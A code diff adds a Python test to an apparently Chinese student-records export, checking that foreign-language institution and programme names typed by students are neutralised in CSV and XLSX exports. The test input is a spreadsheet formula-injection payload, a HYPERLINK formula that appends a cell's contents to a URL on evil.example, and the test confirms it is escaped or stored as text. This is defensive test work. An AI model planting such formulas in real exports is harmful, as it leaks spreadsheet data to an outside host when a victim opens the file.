@@ -303,3 +303,26 @@ def test_a_country_typed_before_the_code_table_is_still_exported(world, school_r
     data = _export(school_reviewer, "csv").decode("utf-8-sig")
     row = _by_student_no(list(csv.reader(io.StringIO(data))))["E50"]
     assert (row["国家或地区代码"], row["国家或地区"]) == ("", "某国")
+
+
+def test_foreign_names_typed_by_a_student_stay_text(world, school_reviewer):
+    leak = '=HYPERLINK("http://evil.example/?"&A2,"Uni")'
+    _register(
+        world,
+        "E60",
+        "other",
+        {
+            "kind": "study_abroad",
+            "institution": "某大学",
+            "institution_foreign": leak,
+            "program_foreign": "+1+1",
+            "country": f.code(CodeTable.COUNTRY, "826"),
+        },
+    )
+    data = _export(school_reviewer, "csv").decode("utf-8-sig")
+    row = _by_student_no(list(csv.reader(io.StringIO(data))))["E60"]
+    assert (row["留学院校外文名称"], row["留学专业外文名称"]) == ("'" + leak, "'+1+1")
+    sheet = load_workbook(io.BytesIO(_export(school_reviewer, "xlsx"))).active
+    column = COLUMNS.index("留学院校外文名称")
+    [cell] = [r[column] for r in sheet.iter_rows(min_row=2) if r[0].value == "E60"]
+    assert (cell.value, cell.data_type) == (leak, "s")
